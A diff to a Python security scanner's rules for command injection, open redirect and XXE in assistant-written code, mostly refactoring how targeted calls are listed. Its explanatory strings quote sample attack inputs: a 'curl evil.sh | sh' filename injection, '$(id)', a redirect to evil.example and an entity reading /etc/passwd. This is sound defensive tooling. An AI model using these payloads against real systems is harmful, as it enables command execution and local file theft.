@@ -4,7 +4,6 @@ request gets to write."""
 from __future__ import annotations
 
 import ast
-import re
 from collections.abc import Iterator, Sequence
 
 from slopguard.core.finding import Confidence, Severity
@@ -24,7 +23,17 @@ _ALWAYS_SHELL = frozenset(
         "commands.getoutput", "commands.getstatusoutput", "asyncio.create_subprocess_shell",
     }
 )  # fmt: skip
-_EXEC_FAMILY = re.compile(r"^os\.(?:exec|spawn)(l|v)p?e?$|^os\.posix_spawnp?$")
+_SHELL_SUFFIX = "subprocess_shell"  # asyncio's loop.subprocess_shell(protocol_factory, cmd)
+_ASYNC_EXEC = "asyncio.create_subprocess_exec"
+# os.exec*/os.spawn* and posix_spawn, by how they take the program's arguments: "l" as a list of arguments,
+# "v" as one vector (os.execl(path, arg0, arg1) and os.execv(path, [arg0, arg1]); p: PATH lookup, e: environment).
+_EXEC_FAMILY = {
+    **{f"os.{verb}{form}{path}{env}": form for verb in ("exec", "spawn") for form in "lv" for path in ("", "p")
+       for env in ("", "e")},
+    "os.posix_spawn": "v",
+    "os.posix_spawnp": "v",
+}  # fmt: skip
+_REMOTE_EXEC = "exec_command"
 _STRING_COMMANDS = (ast.JoinedStr, ast.BinOp, ast.Subscript, ast.Attribute, ast.Call)
 
 
@@ -35,6 +44,7 @@ _STRING_COMMANDS = (ast.JoinedStr, ast.BinOp, ast.Subscript, ast.Attribute, ast.
     severity=Severity.HIGH,
     confidence=Confidence.HIGH,
     nodes=(ast.Call,),
+    calls={*_ALWAYS_SHELL, _SHELL_SUFFIX, *_SUBPROCESS, _ASYNC_EXEC, *_EXEC_FAMILY, _REMOTE_EXEC},
     why="""Assistants wrap command-line tools with os.system(f"convert {name} ...") or subprocess.run(cmd,
     shell=True) because one string is shorter than an argument list. A shell parses the string: a filename
     or host such as 'x; curl evil.sh | sh' or '$(id)' runs the attacker's commands with the server's
@@ -46,8 +56,8 @@ _STRING_COMMANDS = (ast.JoinedStr, ast.BinOp, ast.Subscript, ast.Attribute, ast.
 def command_injection(node: ast.Call, ctx: PyContext) -> Iterator[Hit]:
     name = ctx.call_name(node)
     module, _, func = name.rpartition(".")
-    if name in _ALWAYS_SHELL or func == "subprocess_shell":
-        cmd = node.args[1] if func == "subprocess_shell" and len(node.args) > 1 else first_arg(node, "cmd")
+    if name in _ALWAYS_SHELL or func == _SHELL_SUFFIX:
+        cmd = node.args[1] if func == _SHELL_SUFFIX and len(node.args) > 1 else first_arg(node, "cmd")
         yield from _shell_string(node, ctx, cmd, f"{name}()")
     elif module == "subprocess" and func in _SUBPROCESS:
         cmd = first_arg(node, "args")
@@ -60,19 +70,19 @@ def command_injection(node: ast.Call, ctx: PyContext) -> Iterator[Hit]:
             yield from _shell_string(node, ctx, cmd, f"{name}(shell=True)")
         else:
             yield from _argv(node, ctx, cmd, name)
-    elif name == "asyncio.create_subprocess_exec" and node.args:
+    elif name == _ASYNC_EXEC and node.args:
         yield from _argv_items(node, ctx, node.args, name)
-    elif match := _EXEC_FAMILY.match(name):
+    elif form := _EXEC_FAMILY.get(name):
         args = node.args[1:] if "spawn" in name and not name.startswith("os.posix") else node.args
         if not args:
             return
-        if match.group(1) == "l":
+        if form == "l":
             yield from _argv_items(node, ctx, [args[0], *args[2:]], name)
         else:
             vector = resolve(ctx, args[1]) if len(args) > 1 else None
             rest = vector.elts[1:] if isinstance(vector, ast.List | ast.Tuple) else []
             yield from _argv_items(node, ctx, [args[0], *rest], name)
-    elif method_name(node) == "exec_command" and node.args:  # paramiko: a shell on the remote host
+    elif method_name(node) == _REMOTE_EXEC and node.args:  # paramiko: a shell on the remote host
         flow = ctx.tainted(node.args[0], unescaped=True)
         if flow is not None:
             yield _hit(node, "exec_command() runs a remote shell command", flow)
@@ -189,6 +199,7 @@ _SELF_URLS = frozenset(f"request.{a}" for a in ("url", "path", "full_path", "bas
     severity=Severity.MEDIUM,
     confidence=Confidence.HIGH,
     nodes=(ast.Call,),
+    calls=_REDIRECT_FUNCS,
     why="""After login, logout or a form post, assistants send the user back with
     redirect(request.args["next"]) or HttpResponseRedirect(request.GET.get("next")). An attacker mails a
     link to the real site with ?next=https://evil.example/login; the trusted domain in the link makes the
@@ -232,6 +243,8 @@ _STDLIB_XML = frozenset(
      "xml.dom.expatbuilder"}
 )  # fmt: skip
 _STDLIB_PARSE = frozenset({"parse", "fromstring", "XML", "iterparse", "fromstringlist", "parseString", "XMLID"})
+_LXML_ITERPARSE = "lxml.etree.iterparse"
+_SET_FEATURE = "setFeature"
 _EXTERNAL_FEATURES = ("feature_external_ges", "feature_external_pes", "external-general-entities",
                       "external-parameter-entities")  # fmt: skip
 
@@ -243,6 +256,7 @@ _EXTERNAL_FEATURES = ("feature_external_ges", "feature_external_pes", "external-
     severity=Severity.HIGH,
     confidence=Confidence.HIGH,
     nodes=(ast.Call,),
+    calls=_LXML_PARSERS | _LXML_PARSE | _STDLIB_PARSE | {_LXML_ITERPARSE, _SET_FEATURE},
     why="""Assistants parse uploaded or posted XML (SAML, SOAP, RSS, office files) with lxml or the standard
     library and sometimes switch on entity resolution to 'support DTDs'. A document declaring
     <!ENTITY x SYSTEM "file:///etc/passwd"> makes the parser read local files or fetch internal URLs into the
@@ -253,13 +267,13 @@ _EXTERNAL_FEATURES = ("feature_external_ges", "feature_external_pes", "external-
 def xxe(node: ast.Call, ctx: PyContext) -> Iterator[Hit]:
     name = ctx.call_name(node)
     module, _, func = name.rpartition(".")
-    if name in _LXML_PARSERS or name == "lxml.etree.iterparse":
+    if name in _LXML_PARSERS or name == _LXML_ITERPARSE:
         unsafe = _unsafe_options(ctx, node)
         if unsafe:
             message = f"{func}({unsafe}) lets documents pull in local files and URLs"
             yield hit_at(node, message, confidence=Confidence.MEDIUM)
             return
-    if method_name(node) == "setFeature" and len(node.args) > 1:
+    if method_name(node) == _SET_FEATURE and len(node.args) > 1:
         flag = node.args[1]
         feature = ctx.qualname(node.args[0]) or ctx.string(node.args[0]) or ""
         on = ctx.is_true(flag) or (isinstance(flag, ast.Constant) and flag.value == 1)
